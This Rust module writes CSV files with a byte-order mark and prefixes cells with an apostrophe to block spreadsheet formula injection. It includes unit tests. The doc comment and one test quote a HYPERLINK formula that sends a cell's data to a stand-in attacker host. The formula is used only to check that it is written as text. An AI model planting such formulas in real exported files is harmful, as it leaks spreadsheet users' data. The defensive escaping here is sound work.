//! Writing CSV files, the one way Värn writes them: UTF-8 with a byte-order mark (so Excel
//! reads å, ä and ö), and every cell neutralised against formula injection. A cell that
//! begins with `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula
//! by Excel or LibreOffice (`=HYPERLINK("http://evil.example/?d="&A2,"Klicka här")`); it
//! is written with a `'` in front, which the spreadsheet shows as text. Reading a file
//! back ([`crate::tabular`]) takes the `'` away again.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// The cell as it may be written: with a `'` in front when it would be a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The cell as it was before [`neutralise`].
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) => rest,
        _ => cell,
    }
}

/// A CSV file being written.
pub struct Csv {
    writer: csv::Writer<Vec<u8>>,
}

impl std::fmt::Debug for Csv {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("Csv")
    }
}

impl Csv {
    /// A file with `,` between cells.
    pub fn new() -> Csv {
        Csv::with_delimiter(b',')
    }

    /// A file with `delimiter` between cells (`;` is what Swedish Excel writes).
    pub fn with_delimiter(delimiter: u8) -> Csv {
        Csv {
            writer: csv::WriterBuilder::new()
                .delimiter(delimiter)
                .from_writer(b"\xEF\xBB\xBF".to_vec()),
        }
    }

    /// Writes one row, each cell neutralised.
    pub fn row<I>(&mut self, cells: I) -> anyhow::Result<()>
    where
        I: IntoIterator,
        I::Item: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        self.writer.write_record(&cells)?;
        Ok(())
    }

    /// The file's bytes.
    pub fn finish(self) -> anyhow::Result<Vec<u8>> {
        self.writer
            .into_inner()
            .map_err(|e| anyhow::anyhow!("could not finish a CSV file: {e}"))
    }
}

impl Default for Csv {
    fn default() -> Csv {
        Csv::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text() {
        for cell in ["=1+1", "+46", "-2", "@SUM(A1)", "\tx", "\rx"] {
            assert_eq!(neutralise(cell), format!("'{cell}"));
            assert_eq!(restore(&neutralise(cell)), cell);
        }
        for cell in ["Södermalm", "2026-11-30", "'citat'", "a=b", ""] {
            assert_eq!(neutralise(cell), cell);
            assert_eq!(restore(cell), cell);
        }
    }

    #[test]
    fn a_file_has_a_bom_and_no_live_formula() {
        let mut csv = Csv::with_delimiter(b';');
        csv.row(["Beskrivning", "Tal"]).expect("row");
        csv.row([
            r#"=HYPERLINK("http://evil.example/?d="&A2,"Klicka här")"#,
            "3",
        ])
        .expect("row");
        let bytes = csv.finish().expect("finish");
        let text = String::from_utf8(bytes).expect("utf8");
        assert!(text.starts_with('\u{feff}'));
        let second = text.lines().nth(1).expect("line");
        assert!(second.starts_with(r#""'=HYPERLINK("#), "{second}");
    }
}
